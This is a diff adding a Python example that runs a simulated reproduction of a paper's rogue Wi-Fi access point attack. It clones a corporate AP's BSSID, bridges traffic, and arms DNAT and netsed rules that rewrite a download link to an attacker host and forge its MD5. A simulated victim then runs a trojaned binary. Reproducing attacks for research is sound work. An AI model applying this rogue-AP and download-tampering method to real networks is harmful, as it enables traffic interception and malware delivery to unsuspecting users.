@@ -1,0 +1,59 @@
+#!/usr/bin/env python3
+"""The paper's §4 proof-of-concept, start to finish.
+
+Builds Figure 1 (the dual-radio rogue gateway, parprouted bridge),
+arms Figure 2 (the iptables DNAT + netsed rules, printed verbatim),
+walks a victim in, and runs the download experiment.  The victim's
+MD5 check passes — on a trojan.
+
+Run:  python examples/rogue_ap_mitm.py
+"""
+
+from repro.core.scenario import EVIL_IP, TARGET_IP, build_corp_scenario
+
+
+def main() -> None:
+    scenario = build_corp_scenario(seed=1)
+    sim = scenario.sim
+    rogue = scenario.rogue
+
+    print("== stage 1: the attacker's gateway machine (Fig. 1) ==")
+    print(f"  eth1 (managed)  associated to CORP: {rogue.upstream_associated}")
+    print(f"  wlan0 (master)  ssid={rogue.wlan0.core.ssid!r} "
+          f"channel={rogue.wlan0.core.channel} bssid={rogue.wlan0.core.bssid} "
+          f"(cloned: {rogue.wlan0.core.bssid == scenario.ap.bssid})")
+    print("  Appendix A commands executed on the gateway:")
+    for cmd in rogue.box.history:
+        print(f"    # {cmd}")
+
+    print("\n== stage 2: arm the download MITM (Fig. 2) ==")
+    scenario.arm_download_mitm()
+    print(f"    # {rogue.box.history[-1]}")
+    print(f"  netsed rules: rewrite link -> http://{EVIL_IP}/file.tgz, "
+          f"MD5 {scenario.real_md5[:8]}... -> {scenario.fake_md5[:8]}...")
+
+    print("\n== stage 3: the unsuspecting client connects ==")
+    victim = scenario.add_victim()
+    sim.run_for(5.0)
+    print(f"  victim associated on channel {victim.associated_channel} "
+          f"(rogue clients: {[str(m) for m in rogue.captured_clients()]})")
+    rtts = []
+    victim.ping("10.0.0.1", on_reply=rtts.append)
+    sim.run_for(2.0)
+    print(f"  victim pings its gateway through the bridge: {rtts[0]*1000:.1f} ms")
+
+    print("\n== stage 4: the download ==")
+    outcome = scenario.run_download_experiment(victim)
+    print(f"  page link followed : {outcome.link}")
+    print(f"  published MD5SUM   : {outcome.published_md5} "
+          f"({'FORGED' if outcome.published_md5 == scenario.fake_md5 else 'real'})")
+    print(f"  computed MD5       : {outcome.computed_md5}")
+    print(f"  integrity check    : {'PASSED' if outcome.md5_ok else 'failed'}")
+    print(f"  binary executed    : {outcome.executed}")
+    print(f"  binary trojaned    : {outcome.trojaned}")
+    print(f"\n  VICTIM COMPROMISED : {outcome.compromised}")
+    print(f"  (netsed made {rogue.netsed.total_replacements} stream replacements)")
+
+
+if __name__ == "__main__":
+    main()
